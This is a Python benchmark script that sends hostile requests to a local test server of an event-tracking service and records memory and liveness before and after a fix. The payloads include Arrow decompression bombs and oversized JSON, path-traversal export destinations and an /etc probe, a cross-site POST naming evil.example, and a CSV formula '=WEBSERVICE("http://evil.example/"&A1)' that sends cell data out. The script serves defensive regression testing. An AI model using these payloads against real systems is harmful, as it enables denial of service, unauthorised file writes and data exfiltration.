"""Issue 8's hostile payloads against a real server: the answer, the longest /live stall, peak memory.

Each payload gets a fresh `govtrack serve` subprocess (code from `--source`, default this checkout)
on a fresh temporary store with no API keys, so one payload's memory never counts for the next;
payloads that need data seed it over HTTP first and restart the server before the measured request
(VmHWM then covers the start and the payload only). While the measured request runs, `/live` is
asked every 20 ms and VmRSS sampled every 50 ms (benchmarks/_hostile_target.py).

Run: `python -m benchmarks.bench_hostile --store parquet --label before --source /work/before`.
Results: benchmarks/results/hostile_<store>_<label>.json, and hostile.md combining every label found.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import json
import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any, Final

import numpy as np
import pyarrow as pa

from benchmarks._hostile_target import Measure, Target, source_module_file
from benchmarks.load import MARKER, make_template
from storage.schema import EVENT_SCHEMA
from tests.e2e.hostile import event
from tests.e2e.server import make_batch

RESULTS: Final = Path(__file__).parent / "results"
ROOT: Final = Path(__file__).resolve().parent.parent
JSON: Final = {"Content-Type": "application/json"}
ARROW: Final = {"Content-Type": "application/vnd.apache.arrow.stream"}

Facts = dict[str, Any]


@dataclass(frozen=True)
class Payload:
    """One finding of issue 8, reproduced from outside.

    `run` seeds what it needs, sends the hostile request measured, and returns what it observed
    (`observed`: the one-line summary for the table).
    """

    name: str
    title: str
    run: Callable[[Target], Facts]
    counts_stored: bool = False  # an ingest payload: report how many events the store holds after


def _events_body(events: list[dict[str, Any]]) -> bytes:
    return json.dumps({"events": events}).encode()


# 1. event_type normaliser -------------------------------------------------------------------------


def _event_type(text: str) -> Callable[[Target], Facts]:
    def run(target: Target) -> Facts:
        body = _events_body([event(event_type=text)])
        target.send("POST", "/api/events", content=body, headers=JSON)
        return {"body_bytes": len(body)}

    return run


# 2. many distinct extra keys ----------------------------------------------------------------------


def wide_body(target_bytes: int, keys_per_event: int = 50) -> bytes:
    """Events of ~1 KB, each with `keys_per_event` extra keys no other event has."""

    def one(i: int) -> dict[str, Any]:
        return event(user_name="wide") | {f"k{i:05d}_{j:02d}": 1 for j in range(keys_per_event)}

    count = target_bytes // (len(json.dumps(one(0))) + 2)
    return _events_body([one(i) for i in range(count)])


def _distinct_keys(target_bytes: int) -> Callable[[Target], Facts]:
    def run(target: Target) -> Facts:
        body = wide_body(target_bytes)
        target.send("POST", "/api/events", content=body, headers=JSON)
        return {"body_bytes": len(body), "events": body.count(b'"event_id"')}

    return run


# 3. Arrow IPC bombs -------------------------------------------------------------------------------


def _ipc(columns: dict[str, pa.Array]) -> bytes:
    """A zstd-compressed IPC stream (compressed buffers: what the body size check never sees)."""
    table = pa.table(columns)
    sink = pa.BufferOutputStream()
    options = pa.ipc.IpcWriteOptions(compression="zstd")
    with pa.ipc.new_stream(sink, table.schema, options=options) as writer:
        writer.write_table(table)
    return bytes(sink.getvalue().to_pybytes())


def _text(value: str, rows: int, *, dictionary: bool) -> pa.Array:
    if not dictionary:
        return pa.array([value] * rows, pa.string())
    return pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int8)), pa.array([value], pa.string()))


def _required(rows: int, *, dictionary: bool = False) -> dict[str, pa.Array]:
    """The required columns; dictionary-encoded text keeps even 10k rows a few hundred bytes."""
    ts = dt.datetime.now(dt.UTC) - dt.timedelta(hours=1)
    return {
        "timestamp": pa.array([ts] * rows, EVENT_SCHEMA.field("timestamp").type),
        "event_type": _text("cell_change", rows, dictionary=dictionary),
        "user_name": _text("arrow", rows, dictionary=dictionary),
    }


def attributes_bomb(rows: int = 200, value_bytes: int = 1 << 20) -> bytes:
    """`rows` events with one `value_bytes` attribute each: ~10 KB on the wire."""
    offsets = pa.array(range(rows + 1), pa.int32())
    keys = pa.array(["blob"] * rows, pa.string())
    items = pa.array(["a" * value_bytes] * rows, pa.string())
    attributes = pa.MapArray.from_arrays(offsets, keys, items)
    assert attributes.type == EVENT_SCHEMA.field("attributes").type
    return _ipc(_required(rows) | {"attributes": attributes})


def list_null_bomb(length: int = 20_000_000) -> bytes:
    """One event with an extra `list<null>` column of `length` nulls (null arrays have no buffers)."""
    column = pa.ListArray.from_arrays(pa.array([0, length], pa.int32()), pa.nulls(length))
    return _ipc(_required(1) | {"padding": column})


def dictionary_bomb(rows: int = 10_000, value_chars: int = 65_536) -> bytes:
    """`rows` events whose `formula` is one dictionary entry of `value_chars`: under 1 KB on the wire."""
    formula = _text("=" + "A" * (value_chars - 1), rows, dictionary=True)
    return _ipc(_required(rows, dictionary=True) | {"formula": formula})


def _arrow(build: Callable[[], bytes]) -> Callable[[Target], Facts]:
    def run(target: Target) -> Facts:
        body = build()
        target.send("POST", "/api/events", content=body, headers=ARROW)
        return {"body_bytes": len(body)}

    return run


# 4. minute x user timeseries ----------------------------------------------------------------------


def spread_events(users: int = 701, minutes: int = 5_200, per_minute: int = 2) -> list[dict[str, Any]]:
    """`per_minute` events a minute over `minutes` minutes, users taking turns."""
    start = dt.datetime.now(dt.UTC).replace(second=0, microsecond=0) - dt.timedelta(minutes=minutes + 60)
    return [
        event(
            user_name=f"CORP\\user{i % users:03d}",
            timestamp=(start + dt.timedelta(minutes=i // per_minute)).isoformat(),
        )
        for i in range(minutes * per_minute)
    ]


def _timeseries(target: Target) -> Facts:
    events = spread_events()
    for i in range(0, len(events), 2_000):
        target.post_json(_events_body(events[i : i + 2_000]))
    target.restart()
    resp = target.send("GET", "/api/stats/timeseries", params={"bucket": "minute", "group_by": "user_name"})
    if resp is None or resp.status_code != 200:
        return {"seeded": len(events)}
    points = resp.content.count(b'"ts"')
    observed = f"{points:,} points, {len(resp.content) / 1e6:,.0f} MB"
    return {
        "seeded": len(events),
        "points": points,
        "response_bytes": len(resp.content),
        "observed": observed,
    }


# 5. CSV export of every event ---------------------------------------------------------------------


def _csv_all(target: Target, batches: int = 300) -> Facts:
    template = make_template(1_000)
    for k in range(batches):
        target.post_json(template.replace(MARKER, b"%012x" % k))
    target.restart()
    facts: Facts = {"seeded": batches * 1_000}
    facts |= target.stream("/api/events", params={"limit": 1_000_000}, headers={"Accept": "text/csv"})
    facts["observed"] = (
        f"first body byte {facts.get('first_chunk_ms')} ms (head {facts.get('ttfb_ms')} ms), {facts.get('lines')} lines"
    )
    return facts


# 6. export destinations ---------------------------------------------------------------------------


def _seed_export(target: Target) -> None:
    _, body = make_batch(100, "export")
    target.post_json(json.dumps(body).encode())


def _outside(root: Path) -> list[str]:
    """Entries of the work dir that are not the server's own (store, spool, archive, logs)."""
    own = {"parquet", "chdb", "spool", "archive"}
    return sorted(p.name for p in root.iterdir() if p.name not in own and not p.name.startswith("server-"))


def _escape(destination: Callable[[Path], str]) -> Callable[[Target], Facts]:
    def run(target: Target) -> Facts:
        _seed_export(target)
        before = _outside(target.root)
        target.send(
            "POST",
            "/api/exports",
            content=json.dumps({"destination": destination(target.root)}),
            headers=JSON,
        )
        written = sorted(set(_outside(target.root)) - set(before))
        return {"written_outside": written, "observed": f"escaped: {'yes' if written else 'no'}"}

    return run


def _existence(target: Target) -> Facts:
    _seed_export(target)
    resp = target.send("POST", "/api/exports", content=json.dumps({"destination": "/etc"}), headers=JSON)
    missing = str(target.root / "missing-outside")
    other = target.http.post("/api/exports", content=json.dumps({"destination": missing}), headers=JSON)
    etc = resp.status_code if resp is not None else None
    reveals = "yes" if etc != other.status_code else "no"
    return {
        "missing_status": other.status_code,
        "observed": f"reveals existence: {reveals} ({etc} vs {other.status_code})",
    }


# 7. cross-site post -------------------------------------------------------------------------------


def _cross_site(target: Target) -> Facts:
    body = _events_body([event(user_name="cross-site")])
    headers = {"Host": "evil.example", "Origin": "http://evil.example"}  # and no Content-Type
    target.send("POST", "/api/events", content=body, headers=headers)
    return {}


# 8. formula in CSV --------------------------------------------------------------------------------


def _csv_formula(target: Target) -> Facts:
    formula = '=WEBSERVICE("http://evil.example/"&A1)'
    ingest = target.http.post(
        "/api/events", content=_events_body([event(user_name="csv", new_value=formula)]), headers=JSON
    )
    resp = target.send("GET", "/api/events", params={"user_name": "csv"}, headers={"Accept": "text/csv"})
    if resp is None or resp.status_code != 200:
        return {"ingest_status": ingest.status_code}
    cells = [row["new_value"] for row in csv.DictReader(io.StringIO(resp.text))]
    starts = "yes" if cells and cells[0].startswith("=") else "no"
    return {
        "ingest_status": ingest.status_code,
        "cells": cells,
        "observed": f"cell starts with '=': {starts}",
    }


PAYLOADS: Final = (
    Payload("1a", "event_type: 30 KB `AbCd…`", _event_type("AbCd" * 7_500), counts_stored=True),
    Payload(
        "1b",
        "event_type: 30 KB `ABCD…` (one upper-case run)",
        _event_type("ABCD" * 7_500),
        counts_stored=True,
    ),
    Payload(
        "2a", "JSON 0.95 MiB, 50 distinct extra keys per event", _distinct_keys(996_000), counts_stored=True
    ),
    Payload(
        "2b", "JSON 2.7 MiB, 50 distinct extra keys per event", _distinct_keys(2_830_000), counts_stored=True
    ),
    Payload("3a", "Arrow zstd: 200 events x 1 MiB attribute", _arrow(attributes_bomb), counts_stored=True),
    Payload("3b", "Arrow: one event, `list<null>` of 20M", _arrow(list_null_bomb), counts_stored=True),
    Payload(
        "3c",
        "Arrow zstd: 10k events, dictionary `formula` of 64 KiB",
        _arrow(dictionary_bomb),
        counts_stored=True,
    ),
    Payload("4", "timeseries minute x user_name (701 users, 5,200 min)", _timeseries),
    Payload("5", "CSV, limit=1,000,000 over 300k events", _csv_all),
    Payload("6a", "export to `../../escaped-rel`", _escape(lambda root: "../../escaped-rel")),
    Payload("6b", "export to an absolute path outside", _escape(lambda root: str(root / "outside-abs"))),
    Payload("6c", "export to a file:// URL outside", _escape(lambda root: f"file://{root / 'outside-file'}")),
    Payload("6d", "export to `/etc` (exists) vs a missing path", _existence),
    Payload("7", "POST no Content-Type, Host/Origin evil.example", _cross_site, counts_stored=True),
    Payload("8", "new_value `=WEBSERVICE(…)` read as CSV", _csv_formula),
)


def _stored(target: Target) -> int | None:
    """Events the store holds now (None when the server cannot say)."""
    try:
        resp = target.http.get("/api/stats", timeout=30)
    except Exception:
        return None
    return int(resp.json()["total_events"]) if resp.status_code == 200 else None


def run_payload(payload: Payload, kind: str, source: Path, work: Path, timeout_s: float) -> dict[str, Any]:
    """One payload on a fresh server; the row of the results file."""
    root = work / payload.name
    target = Target(kind, root, source, timeout_s)
    facts: Facts = {}
    try:
        facts = payload.run(target)
    except Exception as exc:  # a broken payload is reported in its row, the run goes on
        facts = {"error": repr(exc)[:500], "log_tail": target.server.log_tail(800)}
    measure = target.measures[-1] if target.measures else Measure()
    hwm = target.hwm_mb()
    exit_code = target.exit_code()
    if exit_code is not None:
        facts["server_exit"] = exit_code
    elif payload.counts_stored and measure.status != "timeout":
        stored = _stored(target)
        facts["stored_events"] = stored
        facts["observed"] = f"stored {stored}" if stored is not None else "stored ?"
    target.close()
    shutil.rmtree(root, ignore_errors=True)
    return {
        "payload": payload.name,
        "title": payload.title,
        **asdict(measure),
        "hwm_mb": hwm and round(hwm, 1),
        "facts": facts,
    }


def _git(source: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(source), *args], capture_output=True, text=True, check=False)
    return done.stdout.strip()


def run(kind: str, label: str, source: Path, timeout_s: float, only: set[str] | None) -> dict[str, Any]:
    """Every payload (or `only` those) on `kind`; the content of the results file."""
    started = time.monotonic()
    header: dict[str, Any] = {
        "store": kind,
        "label": label,
        "source": str(source),
        "api_file": source_module_file(source),
        "source_commit": _git(source, "rev-parse", "--short", "HEAD"),
        "source_modified_files": len(
            _git(source, "status", "--porcelain", "--untracked-files=no").splitlines()
        ),
        "timeout_s": timeout_s,
        "started_utc": dt.datetime.now(dt.UTC).isoformat(timespec="seconds"),
        "cpus": os.cpu_count(),
    }
    print(header, flush=True)
    rows = []
    with tempfile.TemporaryDirectory(prefix=f"govtrack-hostile-{kind}-") as work:
        for payload in PAYLOADS:
            if only and payload.name not in only:
                continue
            row = run_payload(payload, kind, source, Path(work), timeout_s)
            print(json.dumps(row, default=str)[:600], flush=True)
            rows.append(row)
    return header | {"total_s": round(time.monotonic() - started, 1), "results": rows}


# report --------------------------------------------------------------------------------------------


def _cell(row: dict[str, Any] | None, column: str) -> str:
    if row is None:
        return "-"
    if column == "live":
        return ("≥" if row["live_open"] else "") + f"{row['live_max_ms']:,.0f}"
    if column == "rss":
        peak = row["hwm_mb"] if row["hwm_mb"] is not None else row["rss_peak_mb"]
        return f"{peak:,.0f}"
    if column == "observed":
        return str(row["facts"].get("observed") or row["facts"].get("error", ""))[:120]
    code = row.get("error_code")
    return f"{row['status']} {code}" if code else str(row["status"])


def markdown(files: list[dict[str, Any]]) -> str:
    """One table per store, a before/after column pair per measure."""
    labels = sorted({f["label"] for f in files}, key=lambda lab: (lab != "before", lab))
    lines = [
        "# Hostile payloads (issue 8)",
        "",
        "`python -m benchmarks.bench_hostile --store S --label L --source DIR`: each payload on a fresh",
        "server (no API keys, loopback, fresh store); /live asked every 20 ms while the payload's request",
        "runs (≥: a /live request was still unanswered when it ended); peak RSS = the server's VmHWM",
        "after the payload (seeding happens before a restart). 'timeout': no answer within the timeout.",
        "",
    ]
    for f in files:
        lines.append(
            f"- {f['store']} {f['label']}: source {f['source']} at {f['source_commit']}"
            f" ({f['source_modified_files']} modified files), {f['started_utc']}, timeout {f['timeout_s']:.0f} s,"
            f" {f['total_s']:.0f} s in all"
        )
    for store in sorted({f["store"] for f in files}):
        by_label = {f["label"]: {r["payload"]: r for r in f["results"]} for f in files if f["store"] == store}
        heads = ["status", "longest /live ms", "peak RSS MB", "observed"]
        columns = [f"{h} {lab}" for h in heads for lab in labels]
        lines += [
            "",
            f"## {store}",
            "",
            "| payload | " + " | ".join(columns) + " |",
            "|---" * (len(columns) + 1) + "|",
        ]
        for payload in PAYLOADS:
            found = [by_label.get(lab, {}).get(payload.name) for lab in labels]
            if not any(found):
                continue
            cells = [_cell(r, c) for c in ("status", "live", "rss", "observed") for r in found]
            lines.append(f"| {payload.name} {payload.title} | " + " | ".join(cells) + " |")
    return "\n".join(lines) + "\n"


def main() -> None:
    """Run the payloads on one store from one source tree; write its file and the combined table."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--store", choices=("parquet", "clickhouse"), required=True)
    parser.add_argument("--label", choices=("before", "after"), required=True)
    parser.add_argument(
        "--source", type=Path, default=ROOT, help="source tree to serve (default: this checkout)"
    )
    parser.add_argument("--timeout", type=float, default=120.0, help="seconds per hostile request")
    parser.add_argument(
        "--only", help="a trial of these payloads (e.g. 1b,4): printed, results files untouched"
    )
    args = parser.parse_args()
    only = set(args.only.split(",")) if args.only else None
    result = run(args.store, args.label, args.source.resolve(), args.timeout, only)
    if only:
        print(markdown([result]))
        return
    RESULTS.mkdir(exist_ok=True)
    (RESULTS / f"hostile_{args.store}_{args.label}.json").write_text(
        json.dumps(result, indent=2, default=str) + "\n"
    )
    files = [json.loads(p.read_text()) for p in sorted(RESULTS.glob("hostile_*_*.json"))]
    (RESULTS / "hostile.md").write_text(markdown(files))
    print(markdown(files))


if __name__ == "__main__":
    main()
